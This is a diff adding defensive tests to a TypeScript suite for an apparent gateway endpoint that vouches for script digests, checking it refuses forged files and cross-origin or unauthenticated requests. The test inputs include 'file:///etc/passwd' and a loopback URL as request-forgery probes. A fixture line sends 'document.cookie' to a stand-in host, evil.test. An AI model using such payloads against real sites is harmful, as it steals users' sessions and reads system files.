@@ -81,6 +81,67 @@ describe('files with digests', () => {
     }
   });
 
+  /** What the page runtime asks for a file to which script gives digests. */
+  const ask = (
+    url: string,
+    digests: string,
+    { site = 'same-origin', loads = 'script', method = 'GET', client = alice } = {},
+  ) =>
+    client.send(
+      `${gateway.suffix('wiki.corp.test')}/.well-known/sallyport/digests?url=${encodeURIComponent(url)}&digests=${encodeURIComponent(digests)}&loads=${loads}`,
+      {
+        method,
+        headers: { 'sec-fetch-dest': 'empty', 'sec-fetch-mode': 'cors', 'sec-fetch-site': site, accept: '*/*' },
+      },
+    );
+
+  test('script of the page is told the digest of what its browser then gets', async () => {
+    const text = 'window.late = location.host;';
+    files = { '/late.js': text };
+    asked = [];
+    const answer = await ask('https://wiki.corp.test/late.js', digestOf(text));
+    assert.equal(answer.status, 200);
+    assert.equal(answer.headers['cache-control'], 'no-store');
+    const digest = digestOf(await fetched(`${gateway.suffix('wiki.corp.test')}/late.js`, 'script'));
+    assert.equal(answer.body.toString(), `${digestOf(text)}\t \t${digest}`);
+  });
+
+  test('a file with other bytes gets no other digest, whoever asks and wherever it is', async () => {
+    const genuine = digestOf('window.genuine = location.host;');
+    files = { '/forged.js': 'window.forged = location.host;' };
+    for (const url of [
+      'https://wiki.corp.test/forged.js',
+      'https://static.corp.test/forged.js',
+      'https://mail.partner.test/there.js',
+      'https://elsewhere.test/x.js',
+      'http://127.0.0.1/',
+      'file:///etc/passwd',
+    ]) {
+      asked = [];
+      const answer = await ask(url, genuine);
+      assert.equal(answer.body.toString(), genuine, url);
+      if (!url.includes('corp.test')) assert.equal(asked.length, 0, url);
+    }
+  });
+
+  test('digests are told to a signed-in page of the very same origin alone', async () => {
+    const digests = digestOf(SCRIPT);
+    asked = [];
+    for (const site of ['same-site', 'cross-site', 'none'])
+      assert.equal((await ask('https://wiki.corp.test/told.js', digests, { site })).status, 403, site);
+    const stranger = await ask('https://wiki.corp.test/told.js', digests, { client: gateway.client() });
+    assert.ok([302, 303, 401].includes(stranger.status), String(stranger.status));
+    for (const [url, named, how] of [
+      ['', digests, {}],
+      ['/told.js', digests, {}],
+      ['https://wiki.corp.test/told.js', '', {}],
+      ['https://wiki.corp.test/told.js', digests, { loads: 'document' }],
+      ['https://wiki.corp.test/told.js', digests, { method: 'POST' }],
+    ] as const)
+      assert.equal((await ask(url, named, how)).status, 400, `${url} ${named} ${JSON.stringify(how)}`);
+    assert.equal(asked.length, 0);
+  });
+
   test('a forged file is not vouched for', async () => {
     const forged = 'location = "https://evil.test/?" + document.cookie';
     files = { '/forged.js': forged };
